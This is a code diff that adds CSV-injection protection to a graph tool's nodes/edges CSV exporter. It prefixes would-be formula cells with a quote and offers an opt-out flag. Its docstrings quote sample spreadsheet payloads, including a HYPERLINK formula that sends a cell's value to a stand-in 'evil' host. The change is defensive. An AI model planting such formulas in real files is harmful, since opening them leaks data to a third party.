@@ -9,7 +9,17 @@ Where they go (``write_csv(G, path)`` and ``ssegraph export csv -o PATH``):
 ``nodes.csv`` has an ``id`` column then one column per node attribute; ``edges.csv`` has
 ``id``, ``source``, ``target`` (node ids) then the edge attributes, which is the layout Gephi's
 spreadsheet import expects. UTF-8 without a byte-order mark, RFC 4180 quoting, booleans as
-``true``/``false``. Both files are written to temporary files and renamed only when both are
+``true``/``false``.
+
+Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
+carriage return) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a label would
+leak or run something when a curator opens the file. Such a cell is written with a leading
+``'`` (OWASP's "CSV injection" advice), which spreadsheets show as text; numbers such as ``-5``
+are left alone. ``formulas=True`` (``ssegraph export csv --csv-formulas``) writes the values
+as they are, for programs that are not spreadsheets. The W3C SPARQL CSV results of
+``ssegraph query --format csv`` are a data format and stay byte-exact.
+
+Both files are written to temporary files and renamed only when both are
 complete, so a failure leaves neither half-written.
 """
 
@@ -26,7 +36,27 @@ from ..errors import ExportError
 from ._common import AttributeTypes, edges_with_ids, os_errors, text_value
 from ._registry import ExportFormat, register
 
-__all__ = ["csv_paths", "generate_csv", "write_csv"]
+__all__ = ["csv_paths", "defuse", "generate_csv", "write_csv"]
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def defuse(value: str) -> str:
+    """``value`` made safe for a spreadsheet cell: a leading ``'`` before a would-be formula.
+
+    Examples
+    --------
+    >>> print(defuse('=HYPERLINK("http://evil.example/", "x")'))
+    '=HYPERLINK("http://evil.example/", "x")
+    >>> defuse("-12.5"), defuse("Coop")
+    ('-12.5', 'Coop')
+    """
+    if value.startswith(_FORMULA_START):
+        try:
+            float(value)
+        except ValueError:
+            return "'" + value
+    return value
 
 
 def csv_paths(path: str | os.PathLike[str]) -> tuple[Path, Path]:
@@ -49,8 +79,11 @@ def csv_paths(path: str | os.PathLike[str]) -> tuple[Path, Path]:
     return p.with_name(f"{stem}-nodes.csv"), p.with_name(f"{stem}-edges.csv")
 
 
-def generate_csv(G: Any, part: str = "nodes") -> Iterator[str]:
+def generate_csv(G: Any, part: str = "nodes", *, formulas: bool = False) -> Iterator[str]:
     """Yield the lines of ``nodes.csv`` (``part="nodes"``) or ``edges.csv`` (``"edges"``).
+
+    Cells that a spreadsheet would run as a formula are defused (see :func:`defuse`) unless
+    ``formulas=True``.
 
     Examples
     --------
@@ -62,6 +95,15 @@ def generate_csv(G: Any, part: str = "nodes") -> Iterator[str]:
     """
     buffer = io.StringIO()
     writer = _csv.writer(buffer)
+    if not formulas:
+        plain = writer
+
+        class _Defused:  # every row goes through defuse() on its way to the file
+            @staticmethod
+            def writerow(row: list[str]) -> Any:
+                return plain.writerow([defuse(cell) for cell in row])
+
+        writer = _Defused()  # type: ignore[assignment]
 
     def flush() -> str:
         text = buffer.getvalue()
@@ -96,8 +138,10 @@ def generate_csv(G: Any, part: str = "nodes") -> Iterator[str]:
         raise ExportError(f"unknown CSV part {part!r}; use nodes or edges")
 
 
-def write_csv(G: Any, path: str | os.PathLike[str]) -> tuple[Path, Path]:
+def write_csv(G: Any, path: str | os.PathLike[str], *, formulas: bool = False) -> tuple[Path, Path]:
     """Write ``nodes.csv`` and ``edges.csv`` for ``G`` (see :func:`csv_paths`); return their paths.
+
+    ``formulas=False`` (the default) defuses cells a spreadsheet would run (see :func:`defuse`).
 
     Raises
     ------
@@ -107,7 +151,8 @@ def write_csv(G: Any, path: str | os.PathLike[str]) -> tuple[Path, Path]:
     from .._io import atomic_write
 
     nodes_path, edges_path = csv_paths(path)
-    node_lines, edge_lines = list(generate_csv(G, "nodes")), list(generate_csv(G, "edges"))
+    node_lines = list(generate_csv(G, "nodes", formulas=formulas))
+    edge_lines = list(generate_csv(G, "edges", formulas=formulas))
     with os_errors(path), atomic_write(nodes_path) as nodes_fh, atomic_write(edges_path) as edges_fh:
         nodes_fh.write("".join(node_lines))
         edges_fh.write("".join(edge_lines))
@@ -122,6 +167,7 @@ def _cell(value: Any, kind: str) -> str:
 
 register(ExportFormat(
     "csv", (".csv",), "CSV: nodes.csv and edges.csv, for spreadsheets, pandas, R and Gephi",
-    write=lambda G, path, flavour=None: list(write_csv(G, path)),
+    write=lambda G, path, flavour=None, formulas=False: list(write_csv(G, path, formulas=formulas)),
     paths=lambda path: list(csv_paths(path)),
+    options=("formulas",),
     order=4))
